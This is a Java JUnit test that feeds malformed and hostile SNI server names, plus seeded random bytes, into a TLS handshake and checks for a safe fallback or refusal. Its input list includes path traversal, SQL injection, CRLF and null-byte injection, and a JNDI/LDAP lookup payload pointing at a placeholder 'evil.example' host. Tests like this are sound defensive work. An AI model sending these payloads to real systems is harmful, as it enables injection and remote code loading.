package io.vaporform.tls;

import static io.vaporform.tls.Handshakes.serial;
import static org.assertj.core.api.Assertions.assertThat;

import io.vaporform.spec.DomainName;
import io.vaporform.tls.Handshakes.Client;
import java.math.BigInteger;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Random;
import java.util.Set;
import java.util.concurrent.ConcurrentHashMap;
import java.util.stream.Stream;
import javax.net.ssl.SNIServerName;
import javax.net.ssl.SSLException;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/** What clients say that do not mean well. */
class HostileSniTest {

    private static final long SEED = 20261130;

    private final Certs certs = new Certs();
    private final Set<DomainName> asked = ConcurrentHashMap.newKeySet();
    private final BigInteger other = certs.put("default.example.com", "*.example.com");
    private final Tls tls = Tls.builder(name -> {
                asked.add(name);
                return certs.find(name);
            })
            .defaultName("default.example.com")
            .build();

    private static final class Raw extends SNIServerName {
        Raw(byte[] name) {
            super(0, name);
        }
    }

    static Stream<Arguments> hostile() {
        return Stream.of(
                        ".",
                        "..",
                        "a..b",
                        ".example.com",
                        "-a.example.com",
                        "*.example.com",
                        "*",
                        "a.*.example.com",
                        "www.example.com\0.evil.example",
                        "www.example.com\r\n",
                        "../../etc/passwd",
                        "'; drop table rows; --",
                        "a".repeat(64) + ".example.com",
                        "a.".repeat(200) + "example.com",
                        "x".repeat(10_000),
                        "ＷＷＷ.example.com",
                        "xn--.example.com",
                        "www．example。com",
                        "192.0.2.1",
                        "[::1]",
                        "_acme-challenge.example.com",
                        "%s%n${jndi:ldap://evil.example}")
                .map(name -> Arguments.of(
                        name.length() > 40 ? name.substring(0, 40) + "…" : name,
                        name.getBytes(StandardCharsets.UTF_8)));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("hostile")
    void whatIsNoNameGetsTheDefaultOrNoHandshake(String shown, byte[] name) throws SSLException {
        for (String version : List.of("TLSv1.3", "TLSv1.2")) {
            shake(name, version);
        }

        assertThat(asked)
                .allSatisfy(each -> assertThat(DomainName.parse(each.text())).contains(each));
        assertThat(serial(tls, "www.example.com")).isEqualTo(other);
    }

    @Test
    void bytesByChanceDoNoHarm() throws SSLException {
        Random random = new Random(SEED);
        for (int i = 0; i < 200; i++) {
            byte[] name = new byte[1 + random.nextInt(80)];
            random.nextBytes(name);
            shake(name, i % 2 == 0 ? "TLSv1.3" : "TLSv1.2");
        }

        assertThat(serial(tls, "www.example.com")).as("seed %d", SEED).isEqualTo(other);
    }

    /** An alert is an answer, too; whatever else is thrown fails the test. */
    private void shake(byte[] name, String version) {
        Client client =
                Client.of(null).protocol(version).with(parameters -> parameters.setServerNames(List.of(new Raw(name))));
        try {
            assertThat(serial(tls, client)).isEqualTo(other);
        } catch (SSLException refused) {
            assertThat(refused).hasMessageNotContaining("does not end");
        }
    }
}
